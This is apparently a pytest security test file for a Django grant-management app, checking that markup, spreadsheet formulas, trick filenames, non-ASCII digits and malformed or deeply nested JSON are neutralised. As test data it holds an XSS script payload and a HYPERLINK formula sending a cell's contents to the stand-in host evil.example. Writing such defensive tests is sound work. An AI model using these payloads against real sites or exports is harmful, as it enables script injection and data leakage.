"""Text people type is shown as text: markup is escaped on pages and in mail, a formula stays
words in a spreadsheet, and an uploaded file's name cannot hide what the file is."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from notifications.email import render_email
from notifications.models import Notification
from tests.web import signed_in
from workflow.models import Attachment
from workflow.services import opportunity_transition

MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PDF = b"%PDF-1.7\n%%EOF\n"


@pytest.fixture
def hostile(make_opportunity):
    return make_opportunity(state="identified", title=MARKUP, expected_results=MARKUP)


@pytest.mark.parametrize(
    "page", ["/register/", "/opportunities/{pk}/", "/opportunities/{pk}/edit/"]
)
def test_markup_in_a_title_is_shown_as_text(focal_point, hostile, page) -> None:
    body = signed_in(focal_point).get(page.format(pk=hostile.pk)).content.decode()
    assert MARKUP not in body
    assert (
        ESCAPED in body or ESCAPED.replace("&quot;", "&#x27;") in body or "&lt;script&gt;" in body
    )


def test_markup_in_a_title_is_text_in_the_mail(hostile, coordinator) -> None:
    opportunity_transition(opportunity=hostile, user=coordinator, name="present")
    notification = Notification.objects.filter(kind="opportunity.present").first()
    assert notification is not None
    message = render_email(notification)
    html = message.alternatives[0][0]
    assert isinstance(html, str)
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_a_formula_in_a_title_stays_text_in_csv_and_xlsx(focal_point, make_opportunity) -> None:
    make_opportunity(state="identified", title=FORMULA)
    client = signed_in(focal_point)
    rows = list(csv.reader(io.StringIO(client.get("/register/?export=csv").content.decode())))
    assert rows[1][1] == "'" + FORMULA
    book = load_workbook(io.BytesIO(client.get("/register/?export=xlsx").content))
    cell = book.active["B2"]
    assert cell.value == FORMULA and cell.data_type == "s"


def test_an_uploaded_name_loses_folders_and_direction_tricks(focal_point, make_opportunity) -> None:
    opportunity = make_opportunity()
    # Shown as "invoicefdp.exe"-like text by a right-to-left override if kept.
    upload = SimpleUploadedFile("invoice\u202egpj\x07.pdf", PDF)
    response = signed_in(focal_point).post(
        f"/opportunities/{opportunity.pk}/attachments/", {"file": upload}
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.original_name == "invoicegpj.pdf"
    assert attachment.file.name is not None
    assert attachment.file.name.endswith(f"{attachment.token}.pdf")


def test_a_name_that_is_only_an_extension_is_refused(focal_point, make_opportunity) -> None:
    opportunity = make_opportunity()
    response = signed_in(focal_point).post(
        f"/opportunities/{opportunity.pk}/attachments/",
        {"file": SimpleUploadedFile("\u202e.pdf", PDF)},
    )
    assert response.status_code == 400
    assert "ფაილს სახელი სჭირდება" in response.content.decode()
    assert not Attachment.objects.exists()


def test_an_oversized_upload_is_refused_with_the_limit(
    focal_point, make_opportunity, settings
) -> None:
    settings.DONORFLOW_UPLOAD_MAX_MB = 1
    opportunity = make_opportunity()
    big = SimpleUploadedFile("big.pdf", PDF + b"0" * (1024 * 1024))
    response = signed_in(focal_point).post(
        f"/opportunities/{opportunity.pk}/attachments/", {"file": big}
    )
    assert response.status_code == 400 and "1.0" in response.content.decode()
    assert not Attachment.objects.exists()


# Digits that are not ASCII: str.isdigit() is true for all of them, int() fails on the first
# three and reads the last as 123.
NOT_ASCII_DIGITS = ["²", "①", "𝟙𝟚", "١٢٣"]
LIST_PAGES = [
    "/register/",
    "/projects/",
    "/obligations/",
    "/needs/",
    "/needs/gaps/",
    "/trainings/",
    "/dashboard/",
    "/meetings/",
    "/notifications/",
    "/api/opportunities/",
    "/api/projects/",
    "/api/obligations/",
    "/api/needs/",
    "/api/needs/gaps/",
    "/api/trainings/",
    "/api/trainings/totals/",
    "/api/units/",
    "/api/donors/",
]
PUBLIC_PAGES = ["/public/projects/", "/public/projects.json", "/public/projects.atom"]
PARAMETERS = [
    "page",
    "page_size",
    "year",
    "donor",
    "unit",
    "funder",
    "owning_unit",
    "responsible_unit",
    "parent",
    "overdue",
    "missed",
    "deadline_after",
    "due_before",
    "ordering",
    "sort",
]


@pytest.mark.parametrize("value", ["²", "١٢٣"])
def test_digits_that_are_not_ascii_in_filters_are_no_server_error(focal_point, value: str) -> None:
    client = signed_in(focal_point)
    for page in LIST_PAGES:
        for name in PARAMETERS:
            response = client.get(page, {name: value})
            assert response.status_code < 500, (page, name)


@pytest.mark.parametrize("value", NOT_ASCII_DIGITS)
def test_digits_that_are_not_ascii_on_public_pages_signed_out(
    client, public_project, value: str
) -> None:
    for page in PUBLIC_PAGES:
        for name in ("donor", "year", "page"):
            response = client.get(page, {name: value})
            assert response.status_code < 500, (page, name)
            assert response.status_code in (200, 400)


@pytest.mark.parametrize("value", NOT_ASCII_DIGITS)
def test_digits_that_are_not_ascii_in_posted_choices(
    coordinator, make_opportunity, value: str
) -> None:
    from tests.factories import MeetingFactory

    make_opportunity(state="presented")
    client = signed_in(coordinator)
    meeting = MeetingFactory.create()
    assert client.post(f"/meetings/{meeting.pk}/agenda/", {"opportunity": value}).status_code < 500
    decided = client.post("/decisions/", {"selected": [value], "decision": "approve"})
    assert decided.status_code < 500


@pytest.mark.parametrize("depth", [1000, 100_000])
@pytest.mark.parametrize("address", ["/api/opportunities/", "/api/auth/token/", "/api/units/"])
def test_deeply_nested_json_is_refused_signed_out(api, address: str, depth: int) -> None:
    body = "[" * depth + "]" * depth
    response = api.post(address, body, content_type="application/json")
    assert response.status_code in (400, 401, 403)
    if address == "/api/auth/token/":
        assert response.status_code == 400


def test_deeply_nested_json_is_refused_with_a_reason(focal_point) -> None:
    from tests.conftest import client_for

    body = '{"title": ' + "[" * 100_000 + "]" * 100_000 + "}"
    response = client_for(focal_point).post(
        "/api/opportunities/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["messages"]


@pytest.mark.parametrize(
    "body",
    [
        b"1" + b"0" * 100_000,  # beyond Python's digit limit
        b'{"username": "\xff\xfe"}',  # not UTF-8
        b'{"username": "a\x00b"}',  # a raw control character
        b'{"password": NaN}',
        b"{",
    ],
)
def test_a_body_that_is_no_json_is_refused_in_georgian_without_the_decoders_words(
    api, body: bytes
) -> None:
    response = api.post("/api/auth/token/", body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["detail"] == (
        "მოთხოვნის შიგთავსი სწორი JSON არ არის (UTF-8, ჩვეულებრივი რიცხვები, NaN-ის გარეშე)."
    )
